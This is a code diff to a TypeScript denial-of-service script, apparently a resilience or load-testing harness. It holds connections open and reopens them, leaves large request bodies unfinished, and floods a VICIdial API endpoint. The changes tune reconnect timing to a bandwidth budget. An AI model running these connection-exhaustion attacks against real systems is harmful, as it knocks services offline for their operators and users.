@@ -23,11 +23,12 @@ function announce(): void {
   if (--unannounced === 0) process.stdout.write('attacking\n')
 }
 
-/** Holds so many connections, and opens another for each that is closed. What is sent first is given. */
+/** Holds so many connections, and opens another for each that is closed, after a while. What is sent first is given. */
 function hold(
   strength: number,
   begin: string,
-  onOpen: (socket: Socket) => void = (socket) => socket.resume()
+  onOpen: (socket: Socket) => void = (socket) => socket.resume(),
+  againMs = 100
 ): void {
   let opened = 0
   const open = () => {
@@ -38,7 +39,7 @@ function hold(
       if (++opened === strength) announce()
     })
     socket.on('error', () => undefined)
-    socket.on('close', () => setTimeout(open, 100))
+    socket.on('close', () => setTimeout(open, againMs))
   }
   for (let n = 0; n < strength; n++) setTimeout(open, n / 5)
 }
@@ -60,14 +61,15 @@ function readNothing(strength: number): void {
   hold(strength, ask.repeat(10), (socket) => socket.pause())
 }
 
-/** Sends all but the end of a body of 8 MB on every connection. */
+/** Sends all but the end of a body of 8 MB on every connection: no more than 1 Gbit/s can carry. */
 function holdBodies(strength: number): void {
   const body = Buffer.alloc(8 * MEGABYTE, ' ')
   const head = `${WEBHOOK}X-Signature: ${SIGNATURE}\r\nContent-Length: ${body.length + 1}\r\n\r\n`
-  hold(strength, head, (socket) => {
+  const onOpen = (socket: Socket) => {
     socket.resume()
     socket.write(body)
-  })
+  }
+  hold(strength, head, onOpen, (body.length * strength * 1_000) / BYTES_PER_SECOND)
 }
 
 /** Sends 200 MB after the other on so many connections, declared or in chunks, as far as it is let: all that 1 Gbit/s can carry. */
@@ -172,4 +174,6 @@ const ATTACKS: Readonly<Record<Attack, (strength: number) => unknown>> = {
   form_pairs: (strength) =>
     flood(strength, () => ({ path: '/vicidial/non_agent_api.php', headers: form, body: pairs }))
 }
+// Connections from which nothing is read keep no process alive.
+setInterval(() => undefined, 1_000)
 for (const [attack, strength] of strengths) ATTACKS[attack as Attack](strength)
